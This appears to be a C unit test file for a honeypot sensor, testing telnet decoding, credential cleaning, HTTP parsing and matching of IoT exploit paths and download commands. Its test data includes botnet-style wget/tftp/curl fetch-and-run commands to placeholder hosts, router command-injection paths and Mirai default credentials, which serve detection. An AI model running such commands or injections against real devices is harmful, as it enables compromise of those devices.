/* SPDX-License-Identifier: MIT */
/* Tests of the sensor's honeypot protocol helpers: the telnet line decoder (IAC commands,
 * option negotiation, subnegotiation, CR/LF/CR NUL), credential cleaning, the HTTP request
 * head parser, exploit path and download command matching; and the event queue's folding. */
/* cmocka needs these first. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <netinet/in.h>
#include <string.h>

#include "common/macros.h"
#include "common/str.h"
#include "sensor/sensor.h"

/* Feeds text (of len bytes) in one go and collects the lines, '|' separated. */
static void lines_of(const char *text, size_t len, char *out, size_t outlen)
{
	struct sensor_telnet t;
	sensor_telnet_init(&t);
	out[0] = '\0';
	const uint8_t *p = (const uint8_t *)text;
	while (len > 0) {
		size_t used;
		bool got = sensor_telnet_feed(&t, p, len, &used);
		assert_true(used > 0 && used <= len);
		if (got) {
			strncat(out, t.line, outlen - strlen(out) - 1);
			strncat(out, "|", outlen - strlen(out) - 1);
		}
		p += used;
		len -= used;
	}
}

#define LINES(lit, expect)                                                                         \
	do {                                                                                       \
		char got[512];                                                                     \
		lines_of(lit, sizeof(lit) - 1, got, sizeof(got));                                  \
		assert_string_equal(got, expect);                                                  \
	} while (0)

static void test_telnet_line_ends(void **state)
{
	(void)state;
	LINES("root\r\nxc3511\r\n", "root|xc3511|");
	LINES("root\nxc3511\n", "root|xc3511|");
	LINES("root\r\0xc3511\r\0", "root|xc3511|");
	LINES("root\rxc3511\r", "root|xc3511|"); /* a lone CR ends a line too */
	LINES("\r\n\r\nroot\r\n", "||root|");    /* empty lines are lines */
	LINES("partial", "");                    /* no terminator: nothing yet */
}

static void test_telnet_iac(void **state)
{
	(void)state;
	/* IAC DO ECHO, IAC WONT NAWS, then the user name. */
	LINES("\xff\xfd\x01\xff\xfc\x1froot\r\n", "root|");
	/* A subnegotiation (terminal type) in the middle of a line, with IAC IAC inside. */
	LINES("ro\xff\xfa\x18\x00xterm\xff\xff\x01\xff\xf0ot\r\n", "root|");
	/* IAC IAC is a data byte 0xff; a two-byte command (IAC NOP) disappears. */
	LINES("a\xff\xff"
	      "b\xff\xf1"
	      "c\n",
	      "a\xff"
	      "bc|");
	/* Line ends inside negotiation bytes are not line ends. */
	LINES("\xff\xfb\x0a"
	      "x\n",
	      "x|");
}

static void test_telnet_split_and_long(void **state)
{
	(void)state;
	/* Byte by byte, with an IAC sequence split across calls. */
	static const char in[] = "\xff\xfd\x01us\xff\xff"
	                         "er\r\npw\r\0";
	struct sensor_telnet t;
	sensor_telnet_init(&t);
	char got[64] = "";
	for (size_t i = 0; i < sizeof(in) - 1; i++) {
		size_t used;
		if (sensor_telnet_feed(&t, (const uint8_t *)in + i, 1, &used)) {
			strncat(got, t.line, sizeof(got) - strlen(got) - 1);
			strncat(got, "|", sizeof(got) - strlen(got) - 1);
		}
		assert_int_equal(used, 1);
	}
	assert_string_equal(got, "us\xff"
	                         "er|pw|");

	/* A line longer than SENSOR_LINE_MAX is truncated, and the next line is intact. */
	char big[SENSOR_LINE_MAX * 3 + 16];
	memset(big, 'a', SENSOR_LINE_MAX * 3);
	memcpy(big + SENSOR_LINE_MAX * 3, "\r\nok\r\n", 7);
	sensor_telnet_init(&t);
	size_t used, off = 0, n = strlen(big);
	assert_true(sensor_telnet_feed(&t, (const uint8_t *)big, n, &used));
	assert_int_equal(t.len, SENSOR_LINE_MAX);
	assert_int_equal(strlen(t.line), SENSOR_LINE_MAX);
	off += used;
	assert_true(sensor_telnet_feed(&t, (const uint8_t *)big + off, n - off, &used));
	assert_string_equal(t.line, "ok");
}

static void test_cred_clean(void **state)
{
	(void)state;
	char out[SENSOR_CRED_MAX + 1];
	sensor_cred_clean(out, "root", 4);
	assert_string_equal(out, "root");
	sensor_cred_clean(out, "r\x01o\x7fo\tt", 8);
	assert_string_equal(out, "root");
	sensor_cred_clean(out, "p\xc3\xa4ss", 5);
	assert_string_equal(out, "p??ss");
	char long_in[100];
	memset(long_in, 'x', sizeof(long_in));
	sensor_cred_clean(out, long_in, sizeof(long_in));
	assert_int_equal(strlen(out), SENSOR_CRED_MAX);
	sensor_cred_clean(out, "ab\0cd", 5);
	assert_string_equal(out, "ab");
}

static void test_http_parse(void **state)
{
	(void)state;
	struct sensor_http_req rq;
	static const char req[] = "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
	                          "Host: 192.0.2.1:8080\r\n"
	                          "User-Agent: Hello, World\r\n"
	                          "Content-Length: 12\r\n"
	                          "\r\n"
	                          "dest_host=`x";
	assert_int_equal(sensor_http_parse(req, sizeof(req) - 1, &rq), NP_OK);
	assert_string_equal(rq.method, "POST");
	assert_string_equal(rq.target, "/GponForm/diag_Form?images/");
	assert_string_equal(rq.agent, "Hello, World");
	assert_int_equal(rq.content_length, 12);
	assert_int_equal(rq.head_len, sizeof(req) - 1 - 12);

	/* Bare LF line ends, no User-Agent. */
	static const char lf[] = "GET / HTTP/1.0\nHost: x\n\n";
	assert_int_equal(sensor_http_parse(lf, sizeof(lf) - 1, &rq), NP_OK);
	assert_string_equal(rq.target, "/");
	assert_string_equal(rq.agent, "");

	/* Incomplete heads wait; garbage is refused. */
	assert_int_equal(sensor_http_parse("GET / HTTP/1.1\r\nHost:", 21, &rq), NP_EAGAIN);
	assert_int_equal(sensor_http_parse("GET /", 5, &rq), NP_EAGAIN);
	assert_int_equal(sensor_http_parse("\x16\x03\x01\x02\x00\n", 6, &rq), NP_EMALFORMED);
	assert_int_equal(sensor_http_parse("get / HTTP/1.1\r\n\r\n", 18, &rq), NP_EMALFORMED);
	assert_int_equal(sensor_http_parse("GET /\r\n\r\n", 9, &rq), NP_EMALFORMED);

	/* Control bytes in the target are neutralised for the log. */
	static const char ctl[] = "GET /a\x1b[2Jb HTTP/1.1\r\n\r\n";
	assert_int_equal(sensor_http_parse(ctl, sizeof(ctl) - 1, &rq), NP_OK);
	assert_string_equal(rq.target, "/a?[2Jb");

	/* A huge Content-Length saturates instead of overflowing. */
	static const char cl[] =
	    "POST / HTTP/1.1\r\nContent-Length: 99999999999999999999999\r\n\r\n";
	assert_int_equal(sensor_http_parse(cl, sizeof(cl) - 1, &rq), NP_OK);
	assert_true(rq.content_length > SENSOR_HTTP_HEAD);
}

static void test_exploit_match(void **state)
{
	(void)state;
	assert_string_equal(sensor_exploit_match("/ctrlt/DeviceUpgrade_1"),
	                    "/ctrlt/DeviceUpgrade_1");
	assert_string_equal(sensor_exploit_match("/picsdesc.xml"), "/picsdesc.xml");
	assert_string_equal(sensor_exploit_match("/GponForm/diag_Form?images/"),
	                    "/GponForm/diag_Form");
	assert_string_equal(sensor_exploit_match("/shell?cd+/tmp;wget+http://x/y"), "/shell?");
	assert_string_equal(sensor_exploit_match("/boaform/admin/formLogin"),
	                    "/boaform/admin/formLogin");
	assert_string_equal(sensor_exploit_match("/setup.cgi?next_file=netgear.cfg"), "/setup.cgi");
	assert_string_equal(sensor_exploit_match("/cgi-bin/luci/;stok=/locale"), "/cgi-bin/luci");
	assert_string_equal(sensor_exploit_match("/HNAP1/"), "/HNAP1");
	assert_null(sensor_exploit_match("/"));
	assert_null(sensor_exploit_match("/index.html"));
	assert_null(sensor_exploit_match("/shell"));
	assert_null(sensor_exploit_match("/hnap1"));
}

static void test_download_match(void **state)
{
	(void)state;
	static const char *const yes[] = {
	    "cd /tmp; wget http://203.0.113.9/mips; chmod 777 mips",
	    "busybox+wget+http://203.0.113.9/m+-O+/tmp/m",
	    "tftp -g -r mips 203.0.113.9",
	    "curl -O https://evil.example/x.sh",
	    "$(WGET 198.51.100.7/bins.sh)",
	};
	static const char *const no[] = {
	    "", "wget", "the widget wgetter", "curl --version", "GET / HTTP/1.1", "tftp -g"};
	for (size_t i = 0; i < ARRAY_SIZE(yes); i++)
		assert_true(sensor_download_match(yes[i], strlen(yes[i])));
	for (size_t i = 0; i < ARRAY_SIZE(no); i++)
		assert_false(sensor_download_match(no[i], strlen(no[i])));
}

static struct obs_event ev(const char *src, enum obs_kind k, uint16_t port, int64_t t)
{
	struct obs_event e;
	memset(&e, 0, sizeof(e));
	assert_int_equal(addr_parse(src, &e.src), NP_OK);
	e.kind = k;
	e.proto = IPPROTO_TCP;
	e.dst_port = port;
	e.time = t;
	return e;
}

static void test_queue_folds(void **state)
{
	(void)state;
	struct sensor_queue q;
	assert_int_equal(sensor_queue_init(&q, 3), NP_OK);
	int64_t t = 1732200000 - 1732200000 % 3600;
	struct obs_event a = ev("192.0.2.7", OBS_MIRAI_SYN, 23, t);
	for (int i = 0; i < 1000; i++)
		sensor_queue_add(&q, &a);
	a.count = 5;
	sensor_queue_add(&q, &a);
	struct obs_event b = ev("192.0.2.7", OBS_MIRAI_SYN, 2323, t + 10);
	sensor_queue_add(&q, &b);
	struct obs_event c = ev("192.0.2.7", OBS_MIRAI_SYN, 23, t + 3600); /* next hour */
	sensor_queue_add(&q, &c);
	struct obs_event l = ev("2001:db8::1", OBS_LOGIN, 23, t);
	np_strlcpy(l.user, "root", sizeof(l.user));
	np_strlcpy(l.pass, "xc3511", sizeof(l.pass));
	sensor_queue_add(&q, &l); /* a fourth distinct event: over max, dropped */
	assert_true(sensor_queue_full(&q));

	const struct obs_event *out;
	uint64_t dropped;
	size_t n = sensor_queue_take(&q, &out, &dropped);
	assert_int_equal(n, 3);
	assert_int_equal(dropped, 1);
	assert_int_equal(out[0].count, 1005);
	assert_int_equal(out[0].dst_port, 23);
	assert_int_equal(out[1].count, 1);
	assert_int_equal(out[1].dst_port, 2323);
	assert_int_equal(out[2].count, 1);
	assert_int_equal(out[2].time, t + 3600);
	assert_false(sensor_queue_full(&q));

	/* After a take the queue starts empty; credentials are part of the identity. */
	sensor_queue_add(&q, &l);
	sensor_queue_add(&q, &l);
	np_strlcpy(l.pass, "vizxv", sizeof(l.pass));
	sensor_queue_add(&q, &l);
	n = sensor_queue_take(&q, &out, &dropped);
	assert_int_equal(n, 2);
	assert_int_equal(dropped, 0);
	assert_int_equal(out[0].count, 2);
	assert_string_equal(out[1].pass, "vizxv");
	sensor_queue_deinit(&q);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_telnet_line_ends),
	    cmocka_unit_test(test_telnet_iac),
	    cmocka_unit_test(test_telnet_split_and_long),
	    cmocka_unit_test(test_cred_clean),
	    cmocka_unit_test(test_http_parse),
	    cmocka_unit_test(test_exploit_match),
	    cmocka_unit_test(test_download_match),
	    cmocka_unit_test(test_queue_folds),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
